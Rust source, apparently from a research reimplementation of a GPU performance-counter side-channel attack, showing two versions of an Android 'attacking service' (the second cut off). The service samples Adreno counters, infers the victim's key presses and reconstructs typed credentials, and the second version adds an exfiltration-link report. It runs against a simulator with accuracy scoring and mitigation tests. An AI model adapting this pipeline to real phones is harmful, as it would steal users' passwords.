//! The attacking application's background service (§3.2 "Online Phase").
//!
//! Runs the full pipeline end to end:
//!
//! 1. sample the counters through the device file;
//! 2. extract changes;
//! 3. recognise the device configuration and pick the preloaded model;
//! 4. filter out everything outside the target app (§5.2);
//! 5. run Algorithm 1 to infer key presses (§5.1);
//! 6. detect corrections from the echo stream and apply them (§5.3);
//! 7. assemble the recovered credential.

use adreno_sim::time::SimInstant;
use android_ui::UiSimulation;
use kgsl::Errno;
use std::fmt;

use crate::appswitch::{SwitchConfig, SwitchDetector};
use crate::classify::ModelMeta;
use crate::correction::{CorrectionConfig, CorrectionDetector, CorrectionEvent};
use crate::metrics::{score_session, SessionScore};
use crate::offline::ModelStore;
use crate::online::{infer_full_trace, InferenceStats, InferredKey, OnlineConfig};
use crate::sampler::{Sampler, SamplerConfig, SamplerReport};
use crate::trace::extract_deltas_with_resets;

/// Service configuration.
#[derive(Debug, Clone, Default)]
pub struct ServiceConfig {
    /// Counter-sampling loop configuration.
    pub sampler: SamplerConfig,
    /// Algorithm 1 (online inference) configuration.
    pub online: OnlineConfig,
    /// Use the full-trace (lookahead) variant of Algorithm 1 — accuracy
    /// over timeliness (§5.1 trade-off).
    pub full_trace: bool,
    /// Only start inferring after the target app's cold-launch burst is
    /// observed (§3.2: the monitoring service arms itself at launch). When
    /// no launch is seen the session fails with
    /// [`ServiceError::LaunchNotDetected`].
    pub require_launch: bool,
    /// Extension beyond the paper: drop inferred presses that no text echo
    /// corroborates. Every real key press commits a character and therefore
    /// produces a field-redraw echo within ~half a second; popup-shaped
    /// system noise does not. Off by default so the stock pipeline matches
    /// the paper; the `ablate-corroboration` experiment quantifies it.
    pub echo_corroboration: bool,
    /// Backspace/length-tracking (§5.3) configuration.
    pub correction: CorrectionConfig,
}

/// Errors from an eavesdropping session.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ServiceError {
    /// The device file refused (mitigations, closed fd, …).
    Device(Errno),
    /// No preloaded model matched the observed device (§3.2 recognition
    /// failed).
    UnrecognisedDevice,
    /// `require_launch` was set but the target app never launched.
    LaunchNotDetected,
}

impl fmt::Display for ServiceError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ServiceError::Device(e) => write!(f, "device error: {e}"),
            ServiceError::UnrecognisedDevice => write!(f, "no preloaded model matches this device"),
            ServiceError::LaunchNotDetected => write!(f, "target app launch was not observed"),
        }
    }
}

impl std::error::Error for ServiceError {}

impl From<Errno> for ServiceError {
    fn from(e: Errno) -> Self {
        ServiceError::Device(e)
    }
}

/// How much the session was degraded by device faults — the difference
/// between the credential the service *recovered* and the one it *could*
/// have recovered on a quiet device.
#[derive(Debug, Default, Clone, Copy, PartialEq)]
pub struct DegradationReport {
    /// Device faults observed (transients, denials, revocations,
    /// reservation losses).
    pub faults_seen: u64,
    /// Retry attempts the sampler spent recovering.
    pub retries_spent: u64,
    /// Read slots abandoned after their retry budget.
    pub reads_lost: u64,
    /// Successful reopen + re-reserve cycles after fd revocations.
    pub fd_reopens: u64,
    /// Successful re-reservation passes after the device forgot us.
    pub reservations_reacquired: u64,
    /// Backward counter jumps (GPU slumbers) the delta extractor
    /// re-anchored across.
    pub counter_resets: u64,
    /// Fraction of attempted read slots that produced a sample.
    pub coverage: f64,
}

impl DegradationReport {
    fn from_sampler(report: &SamplerReport, counter_resets: usize) -> Self {
        DegradationReport {
            faults_seen: report.faults_seen(),
            retries_spent: report.retries_spent,
            reads_lost: report.abandoned,
            fd_reopens: report.fd_reopens,
            reservations_reacquired: report.reservations_reacquired,
            counter_resets: counter_resets as u64,
            coverage: report.coverage(),
        }
    }

    /// Whether the session ran fault-free at full coverage.
    pub fn is_clean(&self) -> bool {
        self.faults_seen == 0 && self.counter_resets == 0 && self.reads_lost == 0
    }
}

impl fmt::Display for DegradationReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "faults={} retries={} lost={} reopens={} rereservations={} resets={} coverage={:.1}%",
            self.faults_seen,
            self.retries_spent,
            self.reads_lost,
            self.fd_reopens,
            self.reservations_reacquired,
            self.counter_resets,
            self.coverage * 100.0
        )
    }
}

/// The result of one eavesdropping session.
#[derive(Debug, Clone)]
pub struct SessionResult {
    /// Which preloaded model the recognition step selected.
    pub model: ModelMeta,
    /// Inferred key presses, time-ordered, after removing presses undone by
    /// detected backspaces.
    pub keys: Vec<InferredKey>,
    /// Ranked alternative characters per surviving press (aligned with
    /// `keys`) — fuel for the §7.1 guessing post-processor.
    pub candidates: Vec<Vec<char>>,
    /// Every inferred press *including* the ones later excluded because a
    /// backspace deleted them. Per-key accuracy is measured against these:
    /// a corrected typo was still correctly eavesdropped (§5.3 merely keeps
    /// it out of the recovered credential).
    pub keys_before_corrections: Vec<InferredKey>,
    /// The recovered credential text.
    pub recovered_text: String,
    /// Algorithm 1 statistics (Fig 11 taxonomy).
    pub stats: InferenceStats,
    /// Echo-stream events (additions / deletions / blinks).
    pub corrections: Vec<CorrectionEvent>,
    /// App-switch bursts detected.
    pub switches: usize,
    /// When the target app's launch burst was observed (None when the
    /// session did not gate on launch).
    pub launch_at: Option<adreno_sim::time::SimInstant>,
    /// What the session survived. A faulty device degrades the result
    /// (partial trace, lost windows) rather than failing the session; this
    /// report says by how much.
    pub degradation: DegradationReport,
}

impl SessionResult {
    /// Scores the session against a simulation's ground truth: per-key
    /// accuracy over every true press (matched against the inference
    /// *before* correction-exclusion — a corrected typo was still correctly
    /// eavesdropped), text exactness over the recovered credential.
    pub fn score(&self, sim: &UiSimulation) -> SessionScore {
        let truth = sim.truth();
        score_session(
            &truth.keystrokes(),
            &truth.final_text(),
            &self.keys_before_corrections,
            &self.recovered_text,
        )
    }
}

/// The attacking service.
#[derive(Debug)]
pub struct AttackService {
    store: ModelStore,
    config: ServiceConfig,
}

impl AttackService {
    /// Creates a service with preloaded models.
    pub fn new(store: ModelStore, config: ServiceConfig) -> Self {
        AttackService { store, config }
    }

    /// The preloaded model store.
    pub fn store(&self) -> &ModelStore {
        &self.store
    }

    /// Eavesdrops the victim simulation until `until` and recovers the
    /// credential typed in the target app.
    ///
    /// Device faults degrade gracefully: transient errors are retried,
    /// revoked fds reopened, lost reservations re-acquired, and counter
    /// resets re-anchored. A partial trace yields a partial
    /// [`SessionResult`] whose [`DegradationReport`] says what was lost.
    ///
    /// # Errors
    ///
    /// * [`ServiceError::Device`] only when the session never acquired a
    ///   single sample — e.g. the §9 mitigations denying everything from
    ///   the start;
    /// * [`ServiceError::UnrecognisedDevice`] when no preloaded model
    ///   matches.
    pub fn eavesdrop(
        &self,
        sim: &mut UiSimulation,
        until: SimInstant,
    ) -> Result<SessionResult, ServiceError> {
        let mut session_span = spansight::span("core", "service.eavesdrop");
        session_span.sim_range(sim.now().as_nanos(), until.as_nanos());
        let stage = spansight::span("core", "service.sample");
        let mut sampler = Sampler::open(sim.device(), self.config.sampler)?;
        let trace = sampler.sample_until(sim, until)?;
        drop(stage);
        let stage = spansight::span("core", "service.extract");
        let (deltas, counter_resets) = extract_deltas_with_resets(&trace);
        drop(stage);
        let degradation = DegradationReport::from_sampler(&sampler.report(), counter_resets);

        let stage = spansight::span("core", "service.recognize");
        let model = self.store.recognize(&deltas).ok_or(ServiceError::UnrecognisedDevice)?;
        drop(stage);

        // §3.2: optionally wait for the target app's cold-launch burst and
        // ignore everything before it.
        let mut launch_at = None;
        let deltas: Vec<crate::trace::Delta> = if self.config.require_launch {
            let detector = crate::launch::LaunchDetector::new(*model.launch_signature());
            let at = detector.detect(&deltas).ok_or(ServiceError::LaunchNotDetected)?;
            launch_at = Some(at);
            deltas.into_iter().filter(|d| d.at > at).collect()
        } else {
            deltas
        };

        // §5.2: drop everything produced outside the target app, and note
        // when the victim returns (the cursor-blink timer restarts then).
        let stage = spansight::span("core", "service.switch_filter");
        let mut switch =
            SwitchDetector::new(SwitchConfig::with_threshold(model.switch_threshold()));
        let mut in_target: Vec<crate::trace::Delta> = Vec::with_capacity(deltas.len());
        let mut returns: Vec<adreno_sim::time::SimInstant> = Vec::new();
        // The victim's cursor-blink timer restarts when the switch-back
        // animation *finishes*, so the re-anchor time is the last frame of
        // the return burst, not its first.
        let mut pending_return: Option<adreno_sim::time::SimInstant> = None;
        let mut was_inside = true;
        for d in &deltas {
            let burst = d.magnitude() >= model.switch_threshold();
            let inside = switch.observe(d);
            if inside && !was_inside {
                pending_return = Some(d.at);
            } else if inside && burst && pending_return.is_some() {
                pending_return = Some(d.at); // burst still running
            } else if inside && !burst {
                if let Some(t) = pending_return.take() {
                    returns.push(t);
                }
            }
            was_inside = inside;
            if inside && !burst {
                in_target.push(*d);
            }
        }
        if let Some(t) = pending_return.take() {
            returns.push(t);
        }
        drop(stage);

        // §5.1: Algorithm 1 (candidate lists retained for guessing).
        let stage = spansight::span("core", "service.infer");
        let (raw_keys, raw_candidates, rejected, stats) = if self.config.full_trace {
            let (k, r, s) = infer_full_trace(model, &in_target, self.config.online);
            // The full-trace variant reuses the streaming engine internally;
            // recompute candidate ranks from the accepted keys' centroids.
            let cands = k
                .iter()
                .map(|key| {
                    let centroid = model
                        .centroids()
                        .iter()
                        .find(|c| c.ch == key.ch)
                        .map(|c| c.values)
                        .unwrap_or_default();
                    model
                        .nearest_k(&centroid, crate::online::CANDIDATES_PER_KEY)
                        .into_iter()
                        .map(|(ch, _)| ch)
                        .collect()
                })
                .collect();
            (k, cands, r, s)
        } else {
            let mut engine = crate::online::OnlineInference::new(model, self.config.online);
            for d in &in_target {
                engine.process(*d);
            }
            engine.finish_with_candidates()
        };
        drop(stage);

        // §5.3: corrections from the echo stream, re-anchoring the blink
        // grid at every detected return to the target app.
        let stage = spansight::span("core", "service.corrections");
        let mut corr =
            CorrectionDetector::new(model.ambient_signatures().to_vec(), self.config.correction);
        let mut next_return = returns.iter().copied().peekable();
        for d in &rejected {
            while next_return.peek().is_some_and(|t| *t <= d.at) {
                let t = next_return.next().expect("peeked");
                spansight::count("core.service.reanchors", 1);
                corr.reanchor(t);
            }
            corr.observe(d);
        }
        corr.flush();
        let corrections = corr.events().to_vec();

        // Apply deletions: each deletion removes the latest not-yet-deleted
        // inferred key before it.
        let keys_before_corrections = raw_keys.clone();
        let mut alive: Vec<(InferredKey, Vec<char>, bool)> =
            raw_keys.into_iter().zip(raw_candidates).map(|(k, c)| (k, c, true)).collect();
        for del_at in corr.deletions() {
            if let Some(slot) = alive.iter_mut().rev().find(|(k, _, alive)| *alive && k.at < del_at)
            {
                slot.2 = false;
            }
        }
        let mut keys = Vec::with_capacity(alive.len());
        let mut candidates = Vec::with_capacity(alive.len());
        for (k, c, a) in alive {
            if a {
                keys.push(k);
                candidates.push(c);
            }
        }

        // Optional insertion filter: every surviving press must have a
        // corroborating echo (a CharAdded event shortly after it). Each
        // echo vouches for at most one press.
        if self.config.echo_corroboration {
            let window = adreno_sim::time::SimDuration::from_millis(500);
            let mut corroborated = vec![false; keys.len()];
            // Bind each echo to the *latest* press preceding it: a phantom
            // press must not steal the echo of the real press that followed
            // it.
            for e in &corrections {
                let CorrectionEvent::CharAdded(t) = e else { continue };
                if let Some(i) = keys
                    .iter()
                    .enumerate()
                    .rev()
                    .find(|(i, k)| {
                        !corroborated[*i] && k.at < *t && t.saturating_since(k.at) <= window
                    })
                    .map(|(i, _)| i)
                {
                    corroborated[i] = true;
                }
            }
            let mut kept_keys = Vec::with_capacity(keys.len());
            let mut kept_cands = Vec::with_capacity(candidates.len());
            for ((k, c), ok) in keys.into_iter().zip(candidates).zip(corroborated) {
                if ok {
                    kept_keys.push(k);
                    kept_cands.push(c);
                }
            }
            keys = kept_keys;
            candidates = kept_cands;
        }
        drop(stage);
        let recovered_text: String = keys.iter().map(|k| k.ch).collect();
        spansight::count("core.service.sessions", 1);
        spansight::count("core.service.keys_inferred", keys.len() as u64);

        Ok(SessionResult {
            model: *model.meta(),
            keys,
            candidates,
            keys_before_corrections,
            recovered_text,
            stats,
            corrections,
            switches: switch.switches_detected(),
            launch_at,
            degradation,
        })
    }
}

#[cfg(test)]
mod tests {
    // End-to-end service tests need a trained model and live in
    // `tests/attack_e2e.rs`; unit tests here cover the error plumbing.
    use super::*;

    #[test]
    fn empty_store_is_unrecognised() {
        let service = AttackService::new(ModelStore::new(), ServiceConfig::default());
        let mut sim = UiSimulation::new(android_ui::SimConfig::paper_default(1));
        let err = service.eavesdrop(&mut sim, SimInstant::from_millis(500)).unwrap_err();
        assert_eq!(err, ServiceError::UnrecognisedDevice);
    }

    #[test]
    fn mitigated_device_reports_device_error() {
        let service = AttackService::new(ModelStore::new(), ServiceConfig::default());
        let mut sim = UiSimulation::new(android_ui::SimConfig::paper_default(2));
        sim.device().set_policy(kgsl::AccessPolicy::DenyAll);
        let err = service.eavesdrop(&mut sim, SimInstant::from_millis(500)).unwrap_err();
        assert_eq!(err, ServiceError::Device(Errno::Eacces));
    }

    #[test]
    fn errors_display() {
        assert!(ServiceError::UnrecognisedDevice.to_string().contains("no preloaded model"));
        assert!(ServiceError::Device(Errno::Eacces).to_string().contains("EACCES"));
    }
}
