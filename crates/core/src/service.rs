//! The attacking application's background service (§3.2 "Online Phase").
//!
//! Runs the full pipeline end to end. The default [`AttackService::eavesdrop`]
//! driver is *streaming*: it interleaves counter reads with incremental
//! [`Stage`] pushes, so no full session trace is ever
//! materialised and every key press is committed the moment the evidence
//! suffices (see each [`InferredKey::decided_at`]). The pipeline is
//!
//! 1. [`Sampler::next_sample`] — one counter read at a time;
//! 2. [`DeltaStage`] — raw reads → counter changes, re-anchoring resets;
//! 3. [`RecognizeStage`] — pick the
//!    preloaded model from the warm-up prefix (§3.2);
//! 4. [`LaunchGate`] — optionally swallow everything before the target
//!    app's cold-launch burst (§3.2);
//! 5. [`SwitchStage`] — drop changes produced outside the target app,
//!    flag returns to it (§5.2);
//! 6. [`InferStage`] — Algorithm 1: key presses out of typing changes
//!    (§5.1);
//! 7. [`CorrectionStage`] — backspace/length tracking over the noise
//!    stream, applied at end of session (§5.3).
//!
//! [`AttackService::eavesdrop_batch`] keeps the original batch shape —
//! sample everything, then run the stages as whole-trace passes — and is
//! guaranteed to produce an identical [`SessionResult`]; the equivalence
//! tests and the `latency` experiment lean on that.

use adreno_sim::time::SimInstant;
use android_ui::UiSimulation;
use kgsl::Errno;
use std::fmt;

use crate::appswitch::{SwitchConfig, SwitchDetector, SwitchEvent, SwitchOutcome, SwitchStage};
use crate::classify::{ClassifierModel, ModelMeta};
use crate::correction::{CorrectedKeys, CorrectionConfig, CorrectionEvent, CorrectionStage};
use crate::launch::LaunchGate;
use crate::metrics::{score_session, SessionScore};
use crate::offline::{ModelStore, RecognizeStage};
use crate::online::{InferEvent, InferStage, InferenceStats, InferredKey, OnlineConfig};
use crate::sampler::{Sampler, SamplerConfig, SamplerReport};
use crate::stage::Stage;
use crate::trace::{extract_deltas_with_resets, Delta, DeltaStage, Sample, Trace};

/// Capacity of the SPSC ring between the sampling loop and the stage
/// pipeline in [`AttackService::eavesdrop`]. One ring's worth is the burst
/// granularity of the analysis side: big enough to amortise stage dispatch
/// and centroid traversal, small enough (~6 read intervals per keystroke
/// at the paper's 5 ms cadence) that decision latency stays bounded.
const SAMPLE_RING_CAPACITY: usize = 64;

/// Service configuration.
#[derive(Debug, Clone, Default)]
pub struct ServiceConfig {
    /// Counter-sampling loop configuration.
    pub sampler: SamplerConfig,
    /// Algorithm 1 (online inference) configuration.
    pub online: OnlineConfig,
    /// Use the one-change-lookahead variant of Algorithm 1 — accuracy over
    /// timeliness (§5.1 trade-off). Despite the name this no longer buffers
    /// the full trace: [`InferStage::lookahead`] holds exactly one change.
    pub full_trace: bool,
    /// Only start inferring after the target app's cold-launch burst is
    /// observed (§3.2: the monitoring service arms itself at launch). When
    /// no launch is seen the session fails with
    /// [`ServiceError::LaunchNotDetected`].
    pub require_launch: bool,
    /// Extension beyond the paper: drop inferred presses that no text echo
    /// corroborates. Every real key press commits a character and therefore
    /// produces a field-redraw echo within ~half a second; popup-shaped
    /// system noise does not. Off by default so the stock pipeline matches
    /// the paper; the `ablate-corroboration` experiment quantifies it.
    pub echo_corroboration: bool,
    /// Backspace/length-tracking (§5.3) configuration.
    pub correction: CorrectionConfig,
}

/// Errors from an eavesdropping session.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ServiceError {
    /// The device file refused (mitigations, closed fd, …).
    Device(Errno),
    /// No preloaded model matched the observed device (§3.2 recognition
    /// failed).
    UnrecognisedDevice,
    /// `require_launch` was set but the target app never launched.
    LaunchNotDetected,
    /// The session pinned a model by content digest (wire `Hello`) but no
    /// loaded model has that digest — a registry mismatch surfaced as a
    /// typed error instead of silently misclassifying with the wrong model.
    ModelDigestMismatch(crate::registry::ModelDigest),
}

impl fmt::Display for ServiceError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ServiceError::Device(e) => write!(f, "device error: {e}"),
            ServiceError::UnrecognisedDevice => write!(f, "no preloaded model matches this device"),
            ServiceError::LaunchNotDetected => write!(f, "target app launch was not observed"),
            ServiceError::ModelDigestMismatch(digest) => {
                write!(f, "no loaded model has digest {digest}")
            }
        }
    }
}

impl std::error::Error for ServiceError {}

impl From<Errno> for ServiceError {
    fn from(e: Errno) -> Self {
        ServiceError::Device(e)
    }
}

/// How much the session was degraded by device faults — the difference
/// between the credential the service *recovered* and the one it *could*
/// have recovered on a quiet device.
#[derive(Debug, Default, Clone, Copy, PartialEq)]
pub struct DegradationReport {
    /// Device faults observed (transients, denials, revocations,
    /// reservation losses).
    pub faults_seen: u64,
    /// Retry attempts the sampler spent recovering.
    pub retries_spent: u64,
    /// Read slots abandoned after their retry budget.
    pub reads_lost: u64,
    /// Successful reopen + re-reserve cycles after fd revocations.
    pub fd_reopens: u64,
    /// Successful re-reservation passes after the device forgot us.
    pub reservations_reacquired: u64,
    /// Backward counter jumps (GPU slumbers) the delta extractor
    /// re-anchored across.
    pub counter_resets: u64,
    /// Fraction of attempted read slots that produced a sample.
    pub coverage: f64,
}

impl DegradationReport {
    fn from_sampler(report: &SamplerReport, counter_resets: usize) -> Self {
        DegradationReport {
            faults_seen: report.faults_seen(),
            retries_spent: report.retries_spent,
            reads_lost: report.abandoned,
            fd_reopens: report.fd_reopens,
            reservations_reacquired: report.reservations_reacquired,
            counter_resets: counter_resets as u64,
            coverage: report.coverage(),
        }
    }

    /// Whether the session ran fault-free at full coverage.
    pub fn is_clean(&self) -> bool {
        self.faults_seen == 0 && self.counter_resets == 0 && self.reads_lost == 0
    }
}

impl fmt::Display for DegradationReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "faults={} retries={} lost={} reopens={} rereservations={} resets={} coverage={:.1}%",
            self.faults_seen,
            self.retries_spent,
            self.reads_lost,
            self.fd_reopens,
            self.reservations_reacquired,
            self.counter_resets,
            self.coverage * 100.0
        )
    }
}

/// How much the session was degraded by the *exfiltration link*, when the
/// sampler and classifier ran as separate processes over a lossy transport
/// (see the `wire` crate). All-zero — the [`Default`] — for in-process
/// sessions, so folding it into [`SessionResult`] leaves the streaming ≡
/// batch equivalence untouched.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub struct LinkDegradationReport {
    /// Data frames transmitted, including retransmissions.
    pub frames_sent: u64,
    /// Frames retransmitted after an ack timeout.
    pub retransmits: u64,
    /// Frames the transport dropped in flight.
    pub frames_dropped: u64,
    /// Frames the receiver discarded as corrupt (CRC mismatch or
    /// truncation).
    pub frames_corrupt: u64,
    /// Duplicate frames the receiver discarded by sequence number.
    pub duplicates_discarded: u64,
    /// Frames that arrived out of sequence order and were buffered or
    /// dropped for resequencing.
    pub reorders_observed: u64,
    /// Reconnect-and-resume cycles after the link went down.
    pub reconnects: u64,
    /// Payload bytes handed to the transport, including retransmissions.
    pub bytes_sent: u64,
    /// Payload bytes the peer cumulatively acknowledged.
    pub bytes_acked: u64,
}

impl LinkDegradationReport {
    /// Whether the link delivered everything first try: nothing dropped,
    /// corrupted, duplicated, reordered, retransmitted, or reconnected.
    pub fn is_clean(&self) -> bool {
        self.retransmits == 0
            && self.frames_dropped == 0
            && self.frames_corrupt == 0
            && self.duplicates_discarded == 0
            && self.reorders_observed == 0
            && self.reconnects == 0
    }
}

impl fmt::Display for LinkDegradationReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "sent={} retx={} dropped={} corrupt={} dups={} reorders={} reconnects={} \
             bytes={}/{} acked",
            self.frames_sent,
            self.retransmits,
            self.frames_dropped,
            self.frames_corrupt,
            self.duplicates_discarded,
            self.reorders_observed,
            self.reconnects,
            self.bytes_acked,
            self.bytes_sent,
        )
    }
}

/// The result of one eavesdropping session.
#[derive(Debug, Clone, PartialEq)]
pub struct SessionResult {
    /// Which preloaded model the recognition step selected.
    pub model: ModelMeta,
    /// Inferred key presses, time-ordered, after removing presses undone by
    /// detected backspaces.
    pub keys: Vec<InferredKey>,
    /// Ranked alternative characters per surviving press (aligned with
    /// `keys`) — fuel for the §7.1 guessing post-processor.
    pub candidates: Vec<Vec<char>>,
    /// Every inferred press *including* the ones later excluded because a
    /// backspace deleted them. Per-key accuracy is measured against these:
    /// a corrected typo was still correctly eavesdropped (§5.3 merely keeps
    /// it out of the recovered credential).
    pub keys_before_corrections: Vec<InferredKey>,
    /// The recovered credential text.
    pub recovered_text: String,
    /// Algorithm 1 statistics (Fig 11 taxonomy).
    pub stats: InferenceStats,
    /// Echo-stream events (additions / deletions / blinks).
    pub corrections: Vec<CorrectionEvent>,
    /// App-switch bursts detected.
    pub switches: usize,
    /// When the target app's launch burst was observed (None when the
    /// session did not gate on launch).
    pub launch_at: Option<adreno_sim::time::SimInstant>,
    /// What the session survived. A faulty device degrades the result
    /// (partial trace, lost windows) rather than failing the session; this
    /// report says by how much.
    pub degradation: DegradationReport,
    /// What the exfiltration link survived, when the session ran split
    /// across a transport (all-zero for in-process sessions).
    pub link: LinkDegradationReport,
}

impl SessionResult {
    /// Scores the session against a simulation's ground truth: per-key
    /// accuracy over every true press (matched against the inference
    /// *before* correction-exclusion — a corrected typo was still correctly
    /// eavesdropped), text exactness over the recovered credential.
    pub fn score(&self, sim: &UiSimulation) -> SessionScore {
        let truth = sim.truth();
        score_session(
            &truth.keystrokes(),
            &truth.final_text(),
            &self.keys_before_corrections,
            &self.recovered_text,
        )
    }
}

/// Everything downstream of device recognition, constructed lazily once
/// [`RecognizeStage`] picks a model (the stages need its signatures and
/// centroids).
struct PostRecognition<'s> {
    model: &'s ClassifierModel,
    launch: LaunchGate,
    switch: SwitchStage,
    infer: InferStage<'s>,
    correction: CorrectionStage,
    // Scratch buffers reused across pushes so the steady-state path does
    // not allocate.
    gated: Vec<Delta>,
    switch_events: Vec<SwitchEvent>,
    infer_events: Vec<InferEvent>,
    correction_sink: Vec<CorrectionEvent>,
    /// In-target changes of the burst being routed, batched so the
    /// inference stage classifies them in one prepared-row traversal.
    typing_burst: Vec<Delta>,
    /// Accepted presses not yet drained by a streaming consumer (the wire
    /// layer's classifier server streams these back as they commit).
    fresh_keys: Vec<InferredKey>,
}

impl<'s> PostRecognition<'s> {
    fn new(model: &'s ClassifierModel, config: &ServiceConfig) -> Self {
        let launch = if config.require_launch {
            LaunchGate::armed(*model.launch_signature())
        } else {
            LaunchGate::open()
        };
        let infer = if config.full_trace {
            InferStage::lookahead(model, config.online)
        } else {
            InferStage::greedy(model, config.online)
        };
        PostRecognition {
            model,
            launch,
            switch: SwitchStage::new(SwitchConfig::with_threshold(model.switch_threshold())),
            infer,
            correction: CorrectionStage::new(
                model.ambient_signatures().to_vec(),
                config.correction,
                config.echo_corroboration,
            ),
            gated: Vec::new(),
            switch_events: Vec::new(),
            infer_events: Vec::new(),
            correction_sink: Vec::new(),
            typing_burst: Vec::new(),
            fresh_keys: Vec::new(),
        }
    }

    /// Routes one recognised change through launch gate → switch filter →
    /// inference → correction tracking.
    fn push_change(&mut self, delta: Delta) {
        let mut gated = std::mem::take(&mut self.gated);
        self.launch.push(delta, &mut gated);
        self.route_gated(&mut gated);
        self.gated = gated;
    }

    fn route_gated(&mut self, gated: &mut Vec<Delta>) {
        let mut switch_events = std::mem::take(&mut self.switch_events);
        for g in gated.drain(..) {
            self.switch.push(g, &mut switch_events);
        }
        self.route_switch_events(&mut switch_events);
        self.switch_events = switch_events;
    }

    fn route_switch_events(&mut self, switch_events: &mut Vec<SwitchEvent>) {
        let mut infer_events = std::mem::take(&mut self.infer_events);
        let mut burst = std::mem::take(&mut self.typing_burst);
        // Returns only queue a timestamp on the correction stage (applied
        // there in timestamp order, independent of arrival order), and the
        // inference events are routed after this whole batch anyway — so
        // the typing changes can be collected and pushed as one burst,
        // which classifies them in a single prepared-row traversal while
        // producing the exact event sequence per-change pushes would.
        for ev in switch_events.drain(..) {
            match ev {
                SwitchEvent::Return(t) => self.correction.push_return(t),
                SwitchEvent::Typing(d) => burst.push(d),
            }
        }
        self.infer.push_burst(&burst, &mut infer_events);
        burst.clear();
        self.typing_burst = burst;
        self.route_infer_events(&mut infer_events);
        self.infer_events = infer_events;
    }

    fn route_infer_events(&mut self, infer_events: &mut Vec<InferEvent>) {
        let mut sink = std::mem::take(&mut self.correction_sink);
        for ev in infer_events.drain(..) {
            if let InferEvent::Key { key, .. } = &ev {
                self.fresh_keys.push(*key);
            }
            self.correction.push(ev, &mut sink);
        }
        // Correction events are re-read from the stage at the end of the
        // session; the incremental stream has no further consumer.
        sink.clear();
        self.correction_sink = sink;
    }

    /// Flushes every stage in pipeline order and assembles the corrected
    /// key lists.
    fn finish(mut self) -> PipelineOutput<'s> {
        let mut gated = std::mem::take(&mut self.gated);
        self.launch.finish(&mut gated);
        self.route_gated(&mut gated);

        let mut switch_events = std::mem::take(&mut self.switch_events);
        self.switch.finish(&mut switch_events);
        self.route_switch_events(&mut switch_events);

        let mut infer_events = std::mem::take(&mut self.infer_events);
        self.infer.finish(&mut infer_events);
        self.route_infer_events(&mut infer_events);

        let mut sink = std::mem::take(&mut self.correction_sink);
        self.correction.finish(&mut sink);

        PipelineOutput {
            model: self.model,
            launch_at: self.launch.launch_at(),
            switches: self.switch.detector().switches_detected(),
            stats: self.infer.stats(),
            corrected: self.correction.into_corrected(),
        }
    }
}

/// What a finished pipeline produced, before degradation data joins it.
struct PipelineOutput<'s> {
    model: &'s ClassifierModel,
    launch_at: Option<SimInstant>,
    switches: usize,
    stats: InferenceStats,
    corrected: CorrectedKeys,
}

/// The full streaming pipeline: delta extraction and device recognition up
/// front, everything model-dependent behind [`PostRecognition`].
struct Pipeline<'s> {
    config: &'s ServiceConfig,
    delta: DeltaStage,
    recognize: RecognizeStage<'s>,
    post: Option<PostRecognition<'s>>,
    deltas: Vec<Delta>,
    recognized: Vec<Delta>,
}

impl<'s> Pipeline<'s> {
    fn new(store: &'s ModelStore, config: &'s ServiceConfig) -> Self {
        Pipeline {
            config,
            delta: DeltaStage::new(),
            recognize: RecognizeStage::new(store),
            post: None,
            deltas: Vec::new(),
            recognized: Vec::new(),
        }
    }

    /// A pipeline pre-committed to `model` (digest-pinned wire sessions).
    /// Produces the same output as the recognition path for any session the
    /// recognition path would have matched to the same model — see
    /// [`RecognizeStage::pinned`].
    fn pinned(
        store: &'s ModelStore,
        config: &'s ServiceConfig,
        model: &'s ClassifierModel,
    ) -> Self {
        Pipeline {
            config,
            delta: DeltaStage::new(),
            recognize: RecognizeStage::pinned(store, model),
            post: None,
            deltas: Vec::new(),
            recognized: Vec::new(),
        }
    }

    fn push_sample(&mut self, sample: Sample) {
        self.push_samples(std::slice::from_ref(&sample));
    }

    /// Pushes a burst of samples, routing the resulting changes downstream
    /// in one pass. Equivalent to pushing each sample individually — every
    /// stage consumes its inputs in order — but the routing overhead and
    /// the classifier's centroid traversal are paid once per burst instead
    /// of once per sample.
    fn push_samples(&mut self, samples: &[Sample]) {
        let mut deltas = std::mem::take(&mut self.deltas);
        for &s in samples {
            self.delta.push(s, &mut deltas);
        }
        self.route_deltas(&mut deltas);
        self.deltas = deltas;
    }

    fn route_deltas(&mut self, deltas: &mut Vec<Delta>) {
        let mut recognized = std::mem::take(&mut self.recognized);
        for d in deltas.drain(..) {
            self.recognize.push(d, &mut recognized);
        }
        if self.post.is_none() {
            if let Some(model) = self.recognize.model() {
                self.post = Some(PostRecognition::new(model, self.config));
            }
        }
        if let Some(post) = &mut self.post {
            for d in recognized.drain(..) {
                post.push_change(d);
            }
        } else {
            // Still unrecognised: the recognise stage buffers the warm-up
            // prefix internally, so nothing can reach here.
            debug_assert!(recognized.is_empty());
            recognized.clear();
        }
        self.recognized = recognized;
    }

    /// Moves accepted presses not yet seen by a streaming consumer into
    /// `out` (empty until the device is recognised).
    fn drain_new_keys(&mut self, out: &mut Vec<InferredKey>) {
        if let Some(post) = &mut self.post {
            out.append(&mut post.fresh_keys);
        }
    }

    /// Flushes the pipeline and assembles the session result.
    fn finish(mut self, report: &SamplerReport) -> Result<SessionResult, ServiceError> {
        let mut deltas = std::mem::take(&mut self.deltas);
        self.delta.finish(&mut deltas);
        self.route_deltas(&mut deltas);
        let counter_resets = self.delta.resets();

        let mut recognized = std::mem::take(&mut self.recognized);
        self.recognize.finish(&mut recognized);
        debug_assert!(recognized.is_empty());

        let post = self.post.take().ok_or(ServiceError::UnrecognisedDevice)?;
        let output = post.finish();
        if self.config.require_launch && output.launch_at.is_none() {
            return Err(ServiceError::LaunchNotDetected);
        }
        Ok(assemble_result(output, DegradationReport::from_sampler(report, counter_resets)))
    }
}

/// Joins pipeline output and degradation data into a [`SessionResult`],
/// counting the session telemetry exactly once.
